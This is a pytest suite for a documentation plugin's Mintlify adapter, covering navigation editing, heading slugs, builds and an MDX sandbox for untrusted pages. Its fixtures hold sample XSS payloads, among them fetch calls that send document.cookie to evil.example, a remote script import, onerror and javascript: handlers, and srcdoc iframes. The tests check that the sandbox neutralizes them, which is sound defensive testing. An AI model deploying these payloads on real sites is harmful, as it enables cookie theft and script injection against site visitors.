"""The Mintlify adapter: the docs.json edit, MDX pages (links, components, the sandbox) and
`miles-docs mintlify dev`."""

from __future__ import annotations

import json
import os
import re
import subprocess
import sys
import textwrap
import time
from pathlib import Path

import pytest
import yaml
from mintlify_support import broken_links
from support import CORPUS, ROOT, copy_sample, git, lock_text, make_repo, run, write

from miles_docs_plugin import hookimpl
from miles_docs_plugin.core.config import ConfigKeys, FieldSpec, load_config
from miles_docs_plugin.core.context import BuildContext
from miles_docs_plugin.core.model import Page
from miles_docs_plugin.core.plugins import make_plugin_manager
from miles_docs_plugin.mintlify_host import (
    MintlifyPages,
    Placement,
    build_sections,
    insert_nav,
    mintlify_slug,
)
from miles_docs_plugin.mintlify_host.sandbox import sanitize_body

DOCS_JSON = CORPUS / "miles_host" / "tree" / "docs" / "docs.json"


def _diffusion_tab(text: str) -> dict[str, object]:
    tabs = json.loads(text)["navigation"]["tabs"]
    return next(t for t in tabs if t["tab"] == "Diffusion")


def _outside(after: str, at: int, block: str) -> str:
    """``after`` without the inserted block (so it must equal the file before the edit)."""
    assert after[at:at + len(block)] == block
    return after[:at] + after[at + len(block):]


def test_insert_reproduces_the_hand_edit_of_docs_json(tmp_path: Path) -> None:
    """Commit B's docs.json + the generated tab is commit A's docs.json, byte for byte."""
    a = DOCS_JSON.read_text()
    tab = _diffusion_tab(a)
    b_dir = tmp_path / "b"
    b_dir.mkdir()
    (b_dir / "docs.json").write_text(a)
    diff = CORPUS / "miles_host" / "commit_b.diff"
    git(b_dir, "init", "-q")
    git(b_dir, "apply", "--unidiff-zero", "-p2", str(diff))
    b = (b_dir / "docs.json").read_text()
    assert b != a
    new, at, block = insert_nav(b, tab, Placement("Diffusion", None, "Developer Guide", None),
                                "docs.json")
    assert new == a
    assert _outside(new, at, block) == b


@pytest.mark.parametrize("newline,indent", [("\r\n", "\t"), ("\n", "    ")])
def test_insert_keeps_formatting_and_changes_only_its_lines(newline: str, indent: str) -> None:
    doc = {"name": "x", "zeta": 1, "alpha": {"b": 2},
           "navigation": {"tabs": [{"tab": "Guide", "pages": ["index"]},
                                   {"tab": "API", "groups": [{"group": "Ref",
                                                              "pages": ["api/a", "api/b"]}]}]}}
    text = json.dumps(doc, indent=indent).replace("\n", newline) + newline
    obj = {"tab": "Diffusion", "pages": ["diffusion/index", {"group": "G",
                                                              "pages": ["diffusion/a"]}]}
    for place in (Placement("Diffusion", None, None, "API"),
                  Placement("Diffusion", None, "Guide", None),
                  Placement("Diffusion", None, None, None)):
        new, at, block = insert_nav(text, obj, place, "docs.json")
        # every byte outside the inserted block is the host's
        assert _outside(new, at, block) == text
        if newline == "\r\n":
            assert "\n" not in block.replace("\r\n", "")
        lines = block.replace("\r\n", "\n").split("\n")
        assert all(line.startswith(indent * 3) for line in lines[1:] if line.strip()), lines
        tabs = json.loads(new)["navigation"]["tabs"]
        assert [t["tab"] for t in tabs] == (
            ["Guide", "Diffusion", "API"] if place.before or place.after else
            ["Guide", "API", "Diffusion"])
        assert list(json.loads(new)) == list(doc)  # key order kept
    # a group inside an existing tab
    group = {"group": "Diffusion", "pages": ["diffusion/index"]}
    new, at, block = insert_nav(text, group, Placement("API", "Diffusion", None, "Ref"),
                                "docs.json")
    assert _outside(new, at, block) == text
    api = json.loads(new)["navigation"]["tabs"][1]
    assert [g["group"] for g in api["groups"]] == ["Diffusion", "Ref"]


def test_mintlify_heading_ids_follow_the_renderer() -> None:
    # the rules of @mintlify/common's slugify (checked against `mint broken-links
    # --check-anchors` on the Miles host: "## 3. Setup" is #3-setup, not GitHub's #3-setup)
    assert mintlify_slug("3. Setup") == "3-setup"
    assert mintlify_slug("3.3 Colocated vs disaggregated rollout") == \
        "3-3-colocated-vs-disaggregated-rollout"
    assert mintlify_slug("What's new") == "whats-new"
    assert mintlify_slug("Gemma 4 (E2B)") == "gemma-4-e2b"
    # with a character URI encoding escapes, the id keeps it (mint accepts these, not
    # GitHub's #lora--ipc-weight-sync or #cafe-deja-vu)
    assert mintlify_slug("LoRA + IPC weight sync") == "lora-+-ipc-weight-sync"
    assert mintlify_slug("Fast & safe") == "fast-&-safe"
    assert mintlify_slug("Café déjà vu") == "café-déjà-vu"


def test_placement_errors_name_the_key_and_the_choices(tmp_path: Path, cache_dir: Path) -> None:
    commit = make_repo(tmp_path / "up", {"docs/index.md": "# Up\n"})
    docs = _host(tmp_path, tmp_path / "up", commit, "    mintlify:\n      tabs: Diffusion\n")
    done = _cli(docs, "build", "--out", str(tmp_path / "out"))
    assert done.returncode == 2
    assert "sources (diffusion): mintlify: unknown key 'tabs'" in done.stderr
    assert "valid keys: tab, group, after, before" in done.stderr
    docs = _host(tmp_path / "2", tmp_path / "up", commit,
                 "    mintlify:\n      tab: Diffusion\n      after: Nope\n")
    done = _cli(docs, "build", "--out", str(tmp_path / "out"))
    assert done.returncode == 2
    assert "docs.json has no tab 'Nope' to put 'Diffusion' after" in done.stderr
    assert "tabs there: Guide" in done.stderr
    assert not (tmp_path / "out").exists()


# -- a small host and upstream -------------------------------------------------------------------

HOST_DOCS_JSON = """\
{
  "name": "Host",
  "navigation": {
    "tabs": [
      {
        "tab": "Guide",
        "pages": [
          "index"
        ]
      }
    ]
  }
}
"""


def _host(tmp_path: Path, repo: Path, commit: str | None, extra: str = "") -> Path:
    docs = tmp_path / "host" / "docs"
    write(docs / "docs.json", HOST_DOCS_JSON)
    write(docs / "index.md", "---\ntitle: Home\n---\n\nSee [the section](/diffusion).\n")
    write(docs / "miles-docs.yml", f"sources:\n  - name: diffusion\n    repo: {repo.as_uri()}\n"
          f"    web_url: https://github.com/o/up\n{extra}")
    if commit:
        write(docs / "miles-docs.lock", lock_text({"diffusion": (repo.as_uri(), commit)}))
    git(docs.parent, "init", "-q")
    git(docs.parent, "add", "-A")
    git(docs.parent, "commit", "-q", "-m", "host", "--allow-empty")
    return docs


def _cli(docs: Path, *args: str,
         env: dict[str, str] | None = None) -> subprocess.CompletedProcess[str]:
    return subprocess.run([sys.executable, "-m", "miles_docs_plugin.cli", "mintlify", *args],
                          cwd=docs, capture_output=True, text=True, check=False,
                          env={**os.environ, **(env or {})})


#: The page the section's test pages link to (with a heading to link to).
SECOND = "---\ntitle: Other\n---\n\n## Second\n\nText.\n"


def _build_section(tmp_path: Path, files: dict[str, str | bytes], trust: str) -> str:
    """Build ``files`` (an upstream's tree) into a Mintlify host, without banners; the
    build's stderr (it must succeed). The section is in ``tmp_path / "out" / "diffusion"``."""
    commit = make_repo(tmp_path / "up", files)
    docs = _host(tmp_path, tmp_path / "up", commit, "    banner: false\n" + trust)
    done = _cli(docs, "build", "--out", str(tmp_path / "out"))
    assert done.returncode == 0, done.stderr
    return done.stderr


HOSTILE = """\
---
title: Hostile
icon: https://evil.example/track.png
openapi: GET /steal
---
import { Steal } from "https://evil.example/x.js"
export const leak = fetch("https://evil.example/?" + document.cookie)

# Hostile

Text {fetch("https://evil.example/" + document.cookie)} and `{kept in code}`.

<Card title="Go" href="javascript:alert(1)" onClick={() => steal()}>
  Card body with a [link](other.md#section-two).
</Card>

<CardGroup cols={2}>
<div onmouseover="steal()">hover</div>
</CardGroup>

<img
  src="pic.png"
  onerror="steal()"
  alt="a tag over several lines"
/>

<script>steal()</script>

<iframe src="https://www.youtube.com/embed/x" title="A video" allowfullscreen></iframe>

<iframe srcdoc="<script>steal()</script>" src="javascript:steal()"></iframe>

<iframe
  srcdoc
  ="<script>steal()</script>" src=
  "javascript:steal()" title="split"></iframe>

<iframe src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+"></iframe>

See <Link href="other.md">the other page</Link>, [a script](tool.js) and [a style](look.css).

```js
const inCode = {a: 1};
```
"""

OTHER = """\
# Other

## Section Two

<Note>
  A note with [a page link](hostile.md).
</Note>
"""


def test_untrusted_mdx_is_inert_and_reported(tmp_path: Path, cache_dir: Path) -> None:
    commit = make_repo(tmp_path / "up", {"docs/hostile.md": HOSTILE, "docs/other.md": OTHER,
                                         "docs/tool.js": "steal()", "docs/look.css": "*{}"})
    docs = _host(tmp_path, tmp_path / "up", commit)
    done = _cli(docs, "build", "--out", str(tmp_path / "out"))
    assert done.returncode == 0, done.stderr
    # Mintlify adds every .js and .css file of the site to every page: none is copied
    assert not list((tmp_path / "out").rglob("*.js")) and not list((tmp_path / "out").rglob(
        "*.css"))
    assert "tool.js is not copied" in done.stderr and "look.css is not copied" in done.stderr
    page = (tmp_path / "out" / "diffusion" / "hostile.md").read_text()
    for bad in ("import {", "export const", "onClick", "onmouseover", "onerror", "javascript:",
                "<script>", "icon:", "openapi", "evil.example/track"):
        assert bad not in page, bad
    assert "Text \\{fetch(" in page  # an expression becomes literal text
    assert "`{kept in code}`" in page and "const inCode = {a: 1};" in page
    assert '<CardGroup cols={2}>' in page  # a literal attribute is harmless
    assert '<Card title="Go" href="#"' in page
    assert "[link](/diffusion/other#section-two)" in page
    assert '<Link href="/diffusion/other">the other page</Link>' in page  # a component
    assert 'title: "Hostile"' in page or "title: Hostile" in page
    lines = HOSTILE.splitlines()
    assert '.png"\n  alt="a tag over several lines"\n/>\n\n' in page  # a tag over lines
    # an iframe stays, as on the upstream's site, without a document of its own
    assert ('<iframe src="https://www.youtube.com/embed/x" title="A video" allowfullscreen>'
            "</iframe>") in page
    assert "srcdoc" not in page and page.count('<iframe src="#"></iframe>') == 2
    assert '"#" title="split"></iframe>' in page and "data:image" not in page
    for needle in ("import {", "export const", "Text {", "onClick", "<script>", "icon:", "<img",
                   "srcdoc"):
        line = next(i for i, text in enumerate(lines, 1) if needle in text)
        assert f"docs/hostile.md:{line}:" in done.stderr, (needle, done.stderr)
    assert "javascript: links are not allowed" in done.stderr
    # components of the other page pass through untouched, links rewritten
    other = (tmp_path / "out" / "diffusion" / "other.md").read_text()
    assert "<Note>\n  A note with [a page link](/diffusion/hostile).\n</Note>" in other
    # a trusted source keeps its MDX
    docs2 = _host(tmp_path / "trusted", tmp_path / "up", commit, "    trust: full\n")
    done = _cli(docs2, "build", "--out", str(tmp_path / "out2"))
    assert done.returncode == 0, done.stderr
    page = (tmp_path / "out2" / "diffusion" / "hostile.md").read_text()
    assert "import { Steal }" in page and "onClick={() => steal()}" in page
    assert (tmp_path / "out2" / "diffusion" / "tool.js").is_file()


REAL_MDX = """\
---
title: Real
---

<CardGroup cols={2}>
  <Card
    title="Over lines"
    href="/part#part-two"
  >
    A card whose tag spans lines.
  </Card>
  <Card
    title="Self-closing"
    href="./part" />
</CardGroup>

<Frame caption="Shown in the `Request` table.">
  <img src="/pic.svg" alt="a picture" />
</Frame>

{/* <Card
  title="Hidden"
  href="/nowhere"
>
  A card commented out.
</Card> */}

Tail text.{" "}
Next line.
"""


def test_untrusted_mdx_as_real_sites_write_it_stays_valid(tmp_path: Path,
                                                           cache_dir: Path) -> None:
    """Constructs of real Mintlify sites (Helicone's): a tag over several lines with its href
    on a later one, a backtick in a quoted attribute, a comment around a component, and
    Prettier's ``{" "}``. mint reads the page and finds no broken link."""
    commit = make_repo(tmp_path / "up", {
        "docs/real.mdx": REAL_MDX, "docs/part.mdx": "---\ntitle: Part\n---\n\n## Part two\n",
        "docs/pic.svg": '<svg xmlns="http://www.w3.org/2000/svg" width="1" height="1"/>\n'})
    docs = _host(tmp_path, tmp_path / "up", commit)
    done = _cli(docs, "build", "--out", str(tmp_path / "out"))
    assert done.returncode == 0, done.stderr
    assert "warning" not in done.stderr, done.stderr
    page = (tmp_path / "out" / "diffusion" / "real.mdx").read_text()
    assert '    href="/diffusion/part#part-two"\n  >' in page
    assert '    href="/diffusion/part" />' in page
    assert '<Frame caption="Shown in the `Request` table.">' in page
    assert '<img src="/diffusion/pic.svg"' in page
    assert "Hidden" not in page and "/nowhere" not in page  # the comment is gone
    assert "Tail text. \nNext line." in page
    assert broken_links(tmp_path / "out", tmp_path / "home") == {}


def test_dev_writes_a_generated_folder_and_follows_a_working_copy(tmp_path: Path,
                                                                  cache_dir: Path) -> None:
    commit = make_repo(tmp_path / "up", {"docs/index.md": "# Up\n\nSee [other](other.md).\n",
                                         "docs/other.md": OTHER})
    docs = _host(tmp_path, tmp_path / "up", commit,
                 "    mintlify:\n      tab: Diffusion\n      before: Guide\n")
    before = (docs / "docs.json").read_bytes()
    done = _cli(docs, "dev", "--once")
    assert done.returncode == 0, done.stderr
    folder = docs / "diffusion"
    assert (folder / ".miles-docs-generated").is_file()
    assert (folder / ".gitignore").read_text().endswith("*\n")
    assert "[other](/diffusion/other)" in (folder / "index.md").read_text()
    nav = json.loads((folder / "miles-docs-nav.json").read_text())
    assert nav == {"tab": "Diffusion", "pages": ["diffusion/index", "diffusion/other"]}
    assert '{ "$ref": "diffusion/miles-docs-nav.json" },' in done.stdout
    assert "before the tab 'Guide'" in done.stdout and "mint" in done.stdout
    assert (docs / "docs.json").read_bytes() == before  # never a rewrite of the user's file
    assert git(docs.parent, "status", "--porcelain") == ""  # the folder ignores itself

    # with the $ref line added, mint's input is complete and the build keeps docs.json as is
    text = before.decode().replace('"tabs": [\n', '"tabs": [\n      { "$ref": '
                                   '"diffusion/miles-docs-nav.json" },\n')
    (docs / "docs.json").write_text(text)
    done = _cli(docs, "dev", "--once")
    assert "$ref" not in done.stdout
    # mint reads the $ref (it warns and stops on a missing file) and finds every page
    assert broken_links(docs, tmp_path / "home") == {}
    done = _cli(docs, "build", "--out", str(tmp_path / "out"))
    assert done.returncode == 0, done.stderr
    assert (tmp_path / "out" / "docs.json").read_text() == text
    assert json.loads((tmp_path / "out" / "diffusion" / "miles-docs-nav.json").read_text()) == nav
    assert not (tmp_path / "out" / "diffusion" / ".gitignore").exists()

    # a local working copy: an edit shows in the folder (polled every 0.1 s: in about that
    # time on a quiet machine, as printed; the test allows for a loaded one)
    local = tmp_path / "work"
    git(tmp_path, "clone", "-q", str(tmp_path / "up"), str(local))
    env = {"MILES_DOCS_LOCAL_DIFFUSION": str(local), "PYTHONUNBUFFERED": "1"}
    proc = subprocess.Popen([sys.executable, "-m", "miles_docs_plugin.cli", "mintlify", "dev",
                             "--interval", "0.1"], cwd=docs, env={**os.environ, **env},
                            stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
    try:
        deadline = time.monotonic() + 60
        while "local working copy" not in (folder / "index.md").read_text():
            assert proc.poll() is None and time.monotonic() < deadline
            time.sleep(0.05)
        (local / "docs" / "other.md").write_text("# Other\n\nEdited locally.\n")
        edited = time.monotonic()
        while "Edited locally" not in (folder / "other.md").read_text():
            assert time.monotonic() - edited < 15, "the edit did not show in the folder"
            time.sleep(0.02)
        print(f"the edit showed in the generated folder after {time.monotonic() - edited:.2f} s")
    finally:
        proc.terminate()
        proc.wait(10)


def test_build_refuses_an_output_folder_it_did_not_write(tmp_path: Path,
                                                         cache_dir: Path) -> None:
    commit = make_repo(tmp_path / "up", {"docs/index.md": "# Up\n"})
    docs = _host(tmp_path, tmp_path / "up", commit)
    out = tmp_path / "out"
    write(out / "precious.txt", "mine")
    done = run([sys.executable, "-m", "miles_docs_plugin.cli", "mintlify", "build", "--out",
                str(out)], cwd=docs)
    assert done.returncode == 2 and "not written by miles-docs" in done.stderr
    assert (out / "precious.txt").read_text() == "mine"


def pinned_sample() -> str:
    lock = yaml.safe_load((ROOT / "sample_site" / "mintlify" / "miles-docs.lock").read_text())
    return str(lock["sources"]["diffusion"]["commit"])


def test_sample_mintlify_site_builds_offline_and_mint_finds_no_broken_link(
        tmp_path: Path, cache_dir: Path) -> None:
    sample = copy_sample(tmp_path)
    out = sample / "mintlify_site"
    done = run([sys.executable, "-m", "miles_docs_plugin.cli", "mintlify", "build", "--docs",
                "sample_site/mintlify", "--out", "sample_site/mintlify_site"],
               cwd=sample.parent, env={"MILES_DOCS_OFFLINE": "1"})
    assert done.returncode == 0, done.output
    assert "warning" not in done.stderr
    tabs = json.loads((out / "docs.json").read_text())["navigation"]["tabs"]
    assert [t["tab"] for t in tabs] == ["Guide", "Diffusion", "Resources"]
    home = (out / "diffusion" / "index.md").read_text()
    assert "[installation guide](/diffusion/getting-started/installation)" in home
    assert "<Note>" in home and "(/#supported-models)" in home
    install = (out / "diffusion" / "getting-started" / "installation.md").read_text()
    assert f"diffusion-sample/blob/{pinned_sample()}/scripts/train.py" in install
    assert '](/diffusion/assets/images/pipeline.svg "Pipeline")' in install
    assert (out / "diffusion" / "assets" / "images" / "pipeline.svg").is_file()
    assert broken_links(out, tmp_path / "home") == {}


def _workflow() -> tuple[dict[object, object], str]:
    readme = (ROOT / "README.md").read_text()
    block = readme.split("# .github/workflows/docs.yml\n", 1)[1].split("```", 1)[0]
    script = block.split("# deploy:start\n", 1)[1].split("# deploy:end", 1)[0]
    return yaml.safe_load(block), textwrap.dedent(script)


def test_readme_deploy_workflow_pushes_the_site_to_a_bare_repository(tmp_path: Path,
                                                                     cache_dir: Path) -> None:
    workflow, script = _workflow()
    assert workflow[True] == {"push": {"branches": ["main"]}}  # YAML reads `on` as true
    steps = workflow["jobs"]["deploy"]["steps"]  # type: ignore[index]
    assert any("miles-docs mintlify build" in s.get("run", "") for s in steps)
    # the workspace: a host repository whose origin is a local bare repository
    remote = tmp_path / "remote.git"
    git(tmp_path, "init", "-q", "--bare", str(remote))
    commit = make_repo(tmp_path / "up", {"docs/index.md": "# Up\n", "docs/a.md": "# A\n"})
    docs = _host(tmp_path, tmp_path / "up", commit)
    workspace = docs.parent
    git(workspace, "remote", "add", "origin", remote.as_uri())
    git(workspace, "push", "-q", "origin", "HEAD:refs/heads/main")
    site = tmp_path / "runner" / "site"
    done = _cli(docs, "build", "--out", str(site))
    assert done.returncode == 0, done.stderr
    env = {"SITE": str(site), "BRANCH": "docs-deploy", "RUNNER_TEMP": str(tmp_path / "runner"),
           "GITHUB_SHA": git(workspace, "rev-parse", "HEAD")}
    for attempt in (1, 2):  # a first deploy, then one on top of it
        pushed = run(["bash", "-euo", "pipefail", "-c", script], cwd=workspace, env=env)
        assert pushed.returncode == 0, pushed.output
        listed = set(git(remote, "ls-tree", "-r", "--name-only", "docs-deploy").split())
        built = {p.relative_to(site).as_posix() for p in site.rglob("*") if p.is_file()}
        assert listed == built and "diffusion/a.md" in listed and "docs.json" in listed
        assert git(remote, "rev-list", "--count", "docs-deploy") == str(attempt)
        assert git(remote, "show", "docs-deploy:docs.json") == (site / "docs.json").read_text(
            ).rstrip("\n")
    assert git(workspace, "status", "--porcelain") == ""  # the default branch is untouched
    assert git(remote, "rev-parse", "main") == env["GITHUB_SHA"]


TABS_PAGE = """\
---
title: Tabs
---

<Tabs>
  <Tab title="Platform">
```python
x = 1
```
  </Tab>
  <Tab title="Open Source">
```python
def chat(user_input):
    # an indented line of a fenced block

    return user_input
```
  </Tab>
</Tabs>

<CardGroup cols={2}>
  <Card title="Next" icon="layers" href="https://example.org/next">
    Indented card text is not code in MDX.
  </Card>
</CardGroup>
"""


def test_mdx_pages_pass_through_as_written(tmp_path: Path, cache_dir: Path) -> None:
    """Components, their indentation and fences inside them come out byte for byte (mem0's
    pages put fences at column 0 right below a <Tab> line)."""
    commit = make_repo(tmp_path / "up", {"docs/tabs.mdx": TABS_PAGE,
                                         "docs/api.mdx": "---\ntitle: API\nmode: wide\n---"})
    docs = _host(tmp_path, tmp_path / "up", commit, "    banner: false\n    trust: full\n")
    done = _cli(docs, "build", "--out", str(tmp_path / "out"))
    assert done.returncode == 0, done.stderr
    assert (tmp_path / "out" / "diffusion" / "tabs.mdx").read_text() == TABS_PAGE
    assert (tmp_path / "out" / "diffusion" / "api.mdx").read_text() == (
        "---\ntitle: API\nmode: wide\n---")
    # with the banner, a page whose front matter ends the file keeps its front matter
    docs = _host(tmp_path / "b", tmp_path / "up", commit, "    trust: full\n")
    done = _cli(docs, "build", "--out", str(tmp_path / "out2"))
    api = (tmp_path / "out2" / "diffusion" / "api.mdx").read_text()
    assert api.startswith("---\ntitle: API\nmode: wide\n---\n<Info>This page comes from ")


class _Stamp:
    """A plugin given to ``load_config`` (not installed): it declares a key and stamps pages."""

    @hookimpl
    def mdp_config_keys(self) -> ConfigKeys:
        return ConfigKeys(top=(FieldSpec("stamp", "string", "", "A line for every page."),))

    @hookimpl
    def mdp_transform_page(self, page: Page, ctx: BuildContext) -> None:
        page.content += f"\n{ctx.config.extra['stamp']}\n"


def test_the_build_uses_the_plugin_manager_that_read_the_config(tmp_path: Path,
                                                                  cache_dir: Path) -> None:
    # one manager per build, as in MkDocs and Sphinx: the plugins that validated the config
    # are the ones that run (a second manager would drop this one and cost its setup again)
    commit = make_repo(tmp_path / "up", {"docs/index.md": "# Up\n"})
    docs = _host(tmp_path, tmp_path / "up", commit, "stamp: Stamped by the config's plugin\n")
    config = load_config(docs / "miles-docs.yml", hooks=make_plugin_manager([_Stamp()]))
    result = build_sections(config, docs)
    page = result.sections["diffusion"].pages["index.md"]
    assert page.content.rstrip().endswith("Stamped by the config's plugin")
    assert config.hooks is not None
    assert sum(isinstance(p, MintlifyPages) for p in config.hooks.pm.get_plugins()) == 1
    build_sections(config, docs)  # a rebuild with the same config adds no second page writer
    assert sum(isinstance(p, MintlifyPages) for p in config.hooks.pm.get_plugins()) == 1


SNIPPET_PAGE = """\
---
title: Uses snippets
---
import Intro from "/snippets/intro.mdx";
import Local from "./parts/local.mdx";
import Inline from "/snippets/inline.mdx";

# Uses snippets

<Intro word="fast" />

Between.

<Snippet file="legacy.mdx" />

  <Local />

Say <Inline word="so" /> here.
"""


@pytest.mark.parametrize("trust", ["", "    trust: full\n"], ids=["untrusted", "trusted"])
def test_snippets_are_inlined_where_the_page_uses_them(tmp_path: Path, cache_dir: Path,
                                                       trust: str) -> None:
    """The snippet's file is not a page of the host: its text replaces the tag (props filled
    in), its links go where its author meant, and mint reads the page and finds them."""
    commit = make_repo(tmp_path / "up", {
        "docs/page.mdx": SNIPPET_PAGE,
        "docs/other.mdx": "---\ntitle: Other\n---\n\n## Part two\n",
        "docs/snippets/intro.mdx": "Intro is {word}: see [other](/other#part-two).\n",
        "docs/snippets/legacy.mdx": "Legacy text with [a link](../other.mdx).\n\n"
                                    '<Card title="Card" href="../other">\n  A card.\n</Card>\n'
                                    '<Card title="Named" icon="discord" />\n'
                                    '<Card title="Drawn" icon="../images/i.svg" />\n'
                                    '<Card title="Pic" img="../images/i.svg" />\n'
                                    '<Card title="Expr" icon={cfg.icon} />\n',
        "docs/images/i.svg": "<svg/>",
        "docs/snippets/inline.mdx": "inline {word}\n",
        "docs/parts/local.mdx": "<Note>\n  A local [note](../other).\n</Note>\n"})
    docs = _host(tmp_path, tmp_path / "up", commit, trust)
    done = _cli(docs, "build", "--out", str(tmp_path / "out"))
    assert done.returncode == 0, done.stderr
    assert "warning" not in done.stderr or not trust, done.stderr
    page = (tmp_path / "out" / "diffusion" / "page.mdx").read_text()
    assert "import Intro" not in page and "<Intro" not in page and "<Snippet" not in page, page
    assert "Intro is fast: see [other](/diffusion/other#part-two)." in page, page
    assert "Legacy text with [a link](/diffusion/other)." in page, page
    assert '<Card title="Card" href="/diffusion/other">' in page, page  # a tag's own link
    # an icon's name is not a file of the snippet's folder; an icon file is
    assert '<Card title="Named" icon="discord" />' in page, page
    assert '<Card title="Drawn" icon="/diffusion/images/i.svg" />' in page, page
    assert '<Card title="Pic" img="/diffusion/images/i.svg" />' in page, page
    assert "cfg.icon" not in done.stderr  # an expression names no file
    # a use that is not a tag alone on its line is not inlined: its import stays (trusted,
    # naming the published copy) or goes with the tag made text (untrusted)
    if trust:
        assert 'import Inline from "/diffusion/snippets/inline.mdx";' in page, page
        assert 'Say <Inline word="so" /> here.' in page, page
        assert (tmp_path / "out" / "diffusion" / "snippets" / "inline.mdx").is_file()
    else:
        assert 'Say &lt;Inline word="so" /> here.' in page, page
    assert "  <Note>\n    A local [note](/diffusion/other).\n  </Note>" in page, page
    assert broken_links(tmp_path / "out", tmp_path / "home") == {}


IMPORTING = """\
import { Chart, Legend as Key } from "/snippets/chart.jsx";
import Widget from "https://evil.example/w.js";
import Card from "/snippets/card.jsx";
export const Banner = () => <div>hi</div>;

# Importing

<Chart data="x" />

<Key>
  Text of the key.
</Key>

<Widget.Panel />

<Banner />

<Card title="Built in">Mintlify's own card.</Card>

`<Chart />` in code stays.
"""


def test_untrusted_components_from_removed_imports_become_text(tmp_path: Path,
                                                              cache_dir: Path) -> None:
    """An untrusted page loses its imports and exports; a component they defined would leave
    MDX with a tag it cannot resolve, so the tag is written as text, and reported. Mintlify's
    own components need no import and stay."""
    commit = make_repo(tmp_path / "up", {"docs/page.mdx": IMPORTING,
                                         "docs/snippets/chart.jsx": "export const Chart = 1;\n"})
    docs = _host(tmp_path, tmp_path / "up", commit)
    done = _cli(docs, "build", "--out", str(tmp_path / "out"))
    assert done.returncode == 0, done.stderr
    page = (tmp_path / "out" / "diffusion" / "page.mdx").read_text()
    for tag in ("<Chart data", "<Key>", "</Key>", "<Widget.Panel", "<Banner"):
        assert tag not in page, (tag, page)
        assert "&lt;" + tag[1:] in page, (tag, page)
    assert '<Card title="Built in">' in page and "`<Chart />` in code stays." in page
    lines = IMPORTING.splitlines()
    for needle in ("<Chart data", "<Key>", "<Widget.Panel", "<Banner"):
        line = next(i for i, text in enumerate(lines, 1) if needle in text)
        assert f"docs/page.mdx:{line}:" in done.stderr and "removed import or export" in \
            done.stderr, (needle, done.stderr)
    assert broken_links(tmp_path / "out", tmp_path / "home") == {}


def test_trusted_imports_are_published_under_the_mount(tmp_path: Path, cache_dir: Path) -> None:
    """A trusted page keeps its imports: the files it imports from the docs folder (and the
    files those import) are written with the section, and an import from the docs root names
    the mounted copy; a URL is left as written, a file missing from the tree is reported."""
    page = IMPORTING.replace('"https://evil.example/w.js"', '"./missing.jsx"')
    commit = make_repo(tmp_path / "up", {
        "docs/page.mdx": page,
        "docs/snippets/chart.jsx": "import { Dot } from './dot.jsx';\n"
                                   "export const Chart = () => <Dot />;\n"
                                   "export const Legend = ({ children }) => children;\n",
        "docs/snippets/dot.jsx": "export const Dot = () => <span>.</span>;\n",
        "docs/snippets/card.jsx": "export default function Card() { return null; }\n",
        "docs/snippets/unused.jsx": "export const Unused = 1;\n"})
    docs = _host(tmp_path, tmp_path / "up", commit, "    trust: full\n")
    done = _cli(docs, "build", "--out", str(tmp_path / "out"))
    assert done.returncode == 0, done.stderr
    out = tmp_path / "out" / "diffusion"
    text = (out / "page.mdx").read_text()
    assert 'import { Chart, Legend as Key } from "/diffusion/snippets/chart.jsx";' in text, text
    assert 'import Card from "/diffusion/snippets/card.jsx";' in text, text
    assert 'import Widget from "./missing.jsx";' in text
    assert "docs/page.mdx:2:" in done.stderr and "./missing.jsx" in done.stderr, done.stderr
    assert sorted(p.name for p in (out / "snippets").iterdir()) == [
        "card.jsx", "chart.jsx", "dot.jsx"]
    assert (out / "snippets" / "dot.jsx").read_text() == \
        "export const Dot = () => <span>.</span>;\n"
    assert broken_links(tmp_path / "out", tmp_path / "home") == {}


@pytest.mark.parametrize("body", [
    'import X from "./x.jsx"\n\n<X a={alert(1)} />\n',
    "<script a={alert(1)}>x</script>\n",
    '<script title="<img src=x onerror={alert(1)}>">\n',
])
def test_a_tag_written_as_text_leaves_nothing_live(body: str) -> None:
    """A tag the sandbox writes as text is text through and through: an expression or a tag
    in its attributes would otherwise run, or render, in the text it has become."""
    out, found = sanitize_body(body, set())
    assert "<" not in out and re.search(r"(?<!\\)[{}]", out) is None, out
    assert found, out


def test_a_lowercase_element_is_html_whatever_a_page_exports() -> None:
    out, _ = sanitize_body('export const code = "x"\n\nUse <code>x</code>.\n', set())
    assert "Use <code>x</code>." in out, out


@pytest.mark.parametrize(("tag", "kept"), [
    ('<Prompt actions={["copy", "cursor"]} description="d">', True),
    ('<Color.Item name="Surface" value={{ light: "#FFFFFF", dark: "#18181B" }} />', True),
    ('<Color.Item name="n" value={{ light: "#fff", dark: [1, 2.5, {a: null}] }} />', True),
    ('<Tabs sizes={[1, 2]}>', False),  # only where a Mintlify component takes data
    ('<Card title={{ a: 1 }}>', False),  # React would throw on an object as a child
    ('<div dangerouslySetInnerHTML={{__html: "<img src=x onerror=alert(1)>"}} />', False),
    ('<div dangerouslySetInnerHTML={{"__html": "x"}} />', False),
    ('<div dangerouslySetInnerHTML={"<b>x</b>"} />', False),
    ('<Prompt actions={[01]}>', False),  # a leading zero: no number in a module
    ('<Prompt actions={["a\nb"]}>', False),  # a line break in a string
    ('<Prompt actions={[\u0661]}>', False),  # a digit that is not ASCII
    ('<Card cols={08}>', False),
    ('<Prompt actions={[name]}>', False),  # a name: whatever the page's scope holds
    ('<Color.Item value={{ [key]: 1 }} />', False),  # a computed key
    ('<Color.Item value={{ ...props }} />', False),
    ('<Prompt actions={["a" + fetch("x")]}>', False),
    ('<Prompt actions={[`x${y}`]}>', False),
    ('<Color.Item value={{ a: "javascript:alert(1)" }} />', False),
    ('<Card href={["/ok"]}>', False),  # a URL attribute takes no array (React joins it)
    ('<Card style={{ position: "fixed" }}>', False),  # over the host's chrome
    ('<Card onClick={[1]}>', False),
])
def test_data_literals_stay_and_anything_else_goes(tag: str, kept: bool) -> None:
    """Arrays and objects of plain literals are data Mintlify's components read (a colour
    per theme, a prompt's actions); a name, a call, a spread, a template or an unsafe URL in
    them is code or a risk, and the attribute goes."""
    out, found = sanitize_body(tag + "\n", set())
    assert (out == tag + "\n") is kept, out
    assert bool(found) is not kept, found


SPEC = {
    "openapi": "3.0.0",
    "info": {"title": "Things", "version": "1"},
    "paths": {"/things/{id}": {"get": {
        "summary": "Get a thing",
        "description": "Reads one thing: {id} is <b>its</b> key. See [the guide](/guide).",
        "parameters": [{"name": "id", "in": "path", "required": True,
                        "schema": {"type": "string"}, "description": "The thing's id."},
                       {"name": "fields", "in": "query", "schema": {"type": "string"},
